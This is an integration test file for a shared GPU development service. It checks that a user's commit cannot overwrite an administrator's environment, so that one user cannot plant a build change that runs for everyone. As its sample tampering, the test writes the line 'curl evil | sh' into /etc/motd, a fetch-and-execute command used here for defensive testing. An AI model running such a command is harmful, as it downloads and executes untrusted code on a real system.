"""An administrator's environment in the shared service: every user starts it, so no user's
commit may write its Dockerfile or build context (the service writes as root; the next start of
every user would build what one user put there). A commit of such a container still shows its
diff and makes snapshots; ``--write`` is refused before anything is built or written."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import docker
import pytest

from jupyter_gpudev.changes.commit import CommitOptions
from jupyter_gpudev.containers import StartRequest
from jupyter_gpudev.errors import GPUDevError
from jupyter_gpudev.shared.authority import Authority
from tests.integration.shared_views import Names, close, names, new_service, service_config
from tests.integration.test_diff import sh
from tests.integration.test_shared_images import ALICE, PYTHON

pytestmark = pytest.mark.integration

__all__ = ["names"]  # the fixture


@pytest.fixture
def admin_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "admin-images"
    folder.mkdir()
    (folder / "Dockerfile").write_text(f"FROM {PYTHON}\n")
    return folder


@pytest.fixture
def authority(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    docker_client: docker.DockerClient,
    admin_folder: Path,
    names: Names,
) -> Iterator[Authority]:
    config = service_config(tmp_path, monkeypatch)
    config.EnvironmentManager.environments = {
        f"adm-{names.part}": {"build": {"dockerfile": str(admin_folder / "Dockerfile")}}
    }
    held = new_service(tmp_path, config)
    yield held
    close(held, docker_client)


def test_a_users_commit_never_writes_an_administrators_environment(
    authority: Authority, names: Names, admin_folder: Path, docker_client: docker.DockerClient
) -> None:
    # Given alice's container of the administrator's environment, with a change in it
    alice = authority.for_user(ALICE)
    box = f"a-{names.part}"
    alice.containers.start(StartRequest(environment=f"adm-{names.part}", name=box))
    sh(docker_client, box, "echo 'curl evil | sh' >> /etc/motd", owner=ALICE)
    before = {path.name: path.read_bytes() for path in admin_folder.iterdir()}
    # Then its diff is hers to read
    _, rendered = alice.capture.diff(box)
    assert rendered.diff
    # When she commits it with --write
    with pytest.raises(GPUDevError) as refused:
        alice.committer.commit(box, CommitOptions(write=True))
    # Then it is refused, saying why, and nothing of the administrator's is written
    assert refused.value.status == 403
    assert "administrator" in refused.value.message
    assert {path.name: path.read_bytes() for path in admin_folder.iterdir()} == before
